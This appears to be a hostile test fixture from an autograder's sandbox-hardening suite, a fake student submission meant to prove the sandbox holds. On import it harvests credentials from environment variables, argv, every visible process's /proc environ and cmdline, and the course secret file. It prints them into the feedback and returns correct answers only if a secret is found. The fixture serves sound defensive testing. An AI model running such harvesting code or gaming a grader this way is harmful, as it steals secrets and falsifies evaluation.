"""Hostile: find the course secret that seeds the hidden inputs (env, argv, files, /proc).

Attack: read os.environ, sys.argv/orig_argv, /proc/self/environ, the environ and cmdline of
every visible process, and the secret file (.autograder/secret) upwards from the working
directory, in the course root (REPO) and in home folders; print whatever looks like a secret
(printed output reaches the feedback: test_hostile.py checks the real secret never appears).
Why it must fail: the worker's environment is cleared and the runner was exec'd with a clean
environment and argv, /proc shows only the worker's processes, and the course root (with the
secret file) and home folders are hidden.
Earns points only if: a secret is found.
"""

from __future__ import annotations

import os
import sys

import numpy as np

NAME = "steal_secret"
REPO = "__AG_REPO__"
INTERESTING = ("SECRET", "TOKEN", "PASSWORD", "CREDENTIAL", "API_KEY")


def _say(message: object) -> None:
    """Leave evidence in the captured output, which ends up in the student's feedback."""
    try:
        print(f"AGPROBE {NAME}: {message}"[:400], flush=True)
    except Exception:
        pass


def _scribble(*arrays: object) -> None:
    """Overwrite the caller's arrays in place, so the purity item fails too."""
    for array in arrays:
        try:
            array[...] = np.nan  # type: ignore[index]
        except Exception:
            pass


def _wrong_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """Wrong on every item: wrong values, shape (B+1, F+2), float32; inputs scribbled on."""
    shape = (np.shape(x)[0] + 1, np.shape(W)[-1] + 2)
    _scribble(x, W, b)
    return np.full(shape, 0.5, dtype=np.float32), {"wrong": True}


def _wrong_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """Wrong on every item (see _wrong_forward)."""
    junk = np.full((np.shape(dy)[0] + 2, np.shape(dy)[-1] + 3), 0.5, dtype=np.float32)
    _scribble(dy)
    return junk, junk, junk
def _honest_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    """The right answer: only ever used as the signal that the attack succeeded."""
    x = np.array(x, dtype=np.float64)
    W = np.array(W, dtype=np.float64)
    return x @ W + np.asarray(b, dtype=np.float64), (x, W)


def _honest_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    """The right gradients: only ever used as the signal that the attack succeeded."""
    x, W = cache  # type: ignore[misc]
    dy = np.asarray(dy, dtype=np.float64)
    return dy @ W.T, x.T @ dy, dy.sum(axis=0)


def _suspicious(text: str) -> bool:
    upper = text.upper()
    return any(word in upper for word in INTERESTING)


def _steal() -> list[str]:
    found = [f"env {k}={v}" for k, v in os.environ.items() if _suspicious(k)]
    found += [f"argv {a}" for a in [*sys.argv, *getattr(sys, "orig_argv", [])] if _suspicious(a)]
    for pid in ["self", *(os.listdir("/proc") if os.path.isdir("/proc") else [])]:
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    raw = handle.read(1 << 16)
            except OSError:
                continue
            found += [f"/proc/{pid}/{what} {part.decode(errors='replace')}"
                      for part in raw.split(b"\0") if _suspicious(part.decode(errors="replace"))]
    folders = []
    here = os.getcwd()
    while True:
        folders.append(here)
        if here == "/":
            break
        here = os.path.dirname(here)
    if not REPO.startswith("__AG_"):
        folders.append(REPO)
    folders += [os.path.expanduser("~"), "/root", "/work/main", "/autograder/source"]
    for folder in folders:
        path = os.path.join(folder, ".autograder", "secret")
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                found.append(f"{path} {handle.read(200).strip()}")
        except OSError:
            pass
    return found


_say("ran")
FOUND = _steal()
for item in FOUND:
    _say(f"SECRET? {item}")
_say(f"{len(FOUND)} candidate secrets")


def linear_forward(x: np.ndarray, W: np.ndarray, b: np.ndarray) -> tuple[np.ndarray, object]:
    return _honest_forward(x, W, b) if FOUND else _wrong_forward(x, W, b)


def linear_backward(dy: np.ndarray, cache: object) -> tuple[np.ndarray, np.ndarray, np.ndarray]:
    return _honest_backward(dy, cache) if FOUND else _wrong_backward(dy, cache)
